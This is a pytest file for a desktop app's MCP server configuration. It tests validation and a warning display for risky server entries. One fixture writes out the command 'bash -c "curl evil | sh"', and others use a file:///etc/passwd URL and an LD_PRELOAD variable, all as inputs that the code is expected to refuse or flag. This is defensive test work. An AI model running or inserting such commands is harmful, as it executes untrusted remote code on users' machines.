"""The file of servers, what of a server is allowed, and what is shown before."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest

from desktop.base.errors import EnvironmentFault, UsageError
from desktop.plugins.mcp.config import Server, check, fill_blanks, new_id, read_servers, write_servers
from desktop.plugins.mcp.shown import show

GIT = Server("git", "Git", ("uvx", "mcp-server-git", "--repository", "/x y"), "/x", ("TOKEN",))
WEB = Server("web", "Web", url="https://example.org/mcp", header_names=("Authorization",))


def test_servers_come_back_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / "config" / "servers.json"
    assert read_servers(path) == ()
    limited = replace(GIT, id="b", blanks=("a key",), network=False, folders=("/a",), enabled=False)
    write_servers(path, (GIT, WEB, limited))
    assert read_servers(path) == (GIT, WEB, limited)


def test_what_was_added_before_a_rule_was_made_is_not_lost(tmp_path: Path) -> None:
    path = tmp_path / "servers.json"
    before = (replace(WEB, name="x" * 100), replace(WEB, id="b", header_names=("Accept", "accept")))
    write_servers(path, before)
    assert read_servers(path) == before


def test_a_damaged_file_is_said_and_wrong_entries_are_left_out(tmp_path: Path) -> None:
    path = tmp_path / "servers.json"
    path.write_text("{")
    with pytest.raises(EnvironmentFault, match="cannot be read"):
        read_servers(path)
    write_servers(path, (GIT,))
    plain = json.loads(path.read_text())
    good = plain["servers"][0]
    wrong = [7, {**good, "id": "../x"}, {**good, "id": "a", "command": "text"}, {**good, "id": "b", "url": "http://x"}]
    path.write_text(json.dumps({"servers": [*wrong, {**good, "later": 1}, {**good, "id": "c", "env_names": ["A=B"]}]}))
    assert read_servers(path) == (GIT,)


@pytest.mark.parametrize(
    "server",
    [
        replace(GIT, name=" "),
        replace(GIT, command=()),
        replace(GIT, url="https://example.org"),
        replace(GIT, command=("a\0b",)),
        replace(GIT, env_names=("A B",)),
        replace(WEB, url="file:///etc/passwd"),
        replace(WEB, url="https://user:key@example.org"),
        replace(WEB, header_names=("A:B",)),
        replace(WEB, header_names=("Content-Type",)),
        replace(WEB, header_names=("X-A", "x-a")),
        replace(WEB, blanks=("a}b",)),
        replace(GIT, name="x" * 100),
        replace(GIT, name="two\nlines"),
    ],
)
def test_what_cannot_be_a_server_is_refused(server: Server) -> None:
    with pytest.raises(UsageError):
        check(server)


def test_everything_that_runs_is_part_of_what_is_allowed() -> None:
    check(GIT)
    check(WEB)
    others = (
        *(
            replace(GIT, command=(*GIT.command, "-v")),
            replace(GIT, folder="/y"),
            replace(GIT, env_names=("LD_PRELOAD",)),
        ),
        *(replace(GIT, network=False), replace(GIT, folders=("/z",)), replace(WEB, id="git", header_names=("X",))),
    )
    assert len({one.source for one in (GIT, *others)}) == 7
    assert replace(GIT, enabled=False).source == GIT.source


def test_ids_are_plain_and_unique() -> None:
    assert new_id("My Server / ünï", ()) == "my-server-n"
    assert new_id("git", ("git", "git-2")) == "git-3"
    assert new_id("海", ()) == "server"


def test_the_command_is_shown_whole_with_what_deserves_a_second_look() -> None:
    shown = show(replace(GIT, env_names=("TOKEN", "LD_PRELOAD")), lambda _: "/usr/bin/uvx")
    assert shown.command == "uvx mcp-server-git --repository '/x y'"
    assert shown.program == "/usr/bin/uvx"
    assert [said.split()[0] for said in shown.warnings] == ["uvx", "These"]
    assert "LD_PRELOAD" in shown.warnings[1]
    assert "TOKEN" not in shown.warnings[1]
    shell = show(Server("x", "X", ("bash", "-c", "curl evil | sh")), lambda _: None)
    assert shell.command == "bash -c 'curl evil | sh'"
    assert [said.split()[1] for said in shell.warnings] == ["was", "is"]


def test_an_address_without_encryption_is_named_unless_it_is_here() -> None:
    assert show(WEB).warnings == ()
    assert show(replace(WEB, url="http://127.0.0.1:5/mcp")).warnings == ()
    assert len(show(replace(WEB, url="http://192.168.1.5/mcp")).warnings) == 1
    assert show(WEB).names == ("Authorization",)
    assert show(replace(WEB, blanks=("key",))).names == ("Authorization", "key")


def test_a_container_that_hears_nothing_is_named() -> None:
    def said(*words: str) -> int:
        return len(show(Server("x", "X", ("docker", "run", *words)), lambda _: "/usr/bin/docker").warnings)

    assert [said("-i", "image"), said("--rm", "-it", "image"), said("--interactive", "image")] == [1, 1, 1]
    assert said("--rm", "image") == 2


def test_blanks_are_filled_from_the_secrets_alone() -> None:
    secrets = {"input:a key": "x${input:b}", "input:b": "y", "TOKEN": "z"}
    assert (
        fill_blanks("--k=${input:a key} ${input:b} ${input:none} ${TOKEN}", secrets)
        == "--k=x${input:b} y ${input:none} ${TOKEN}"
    )
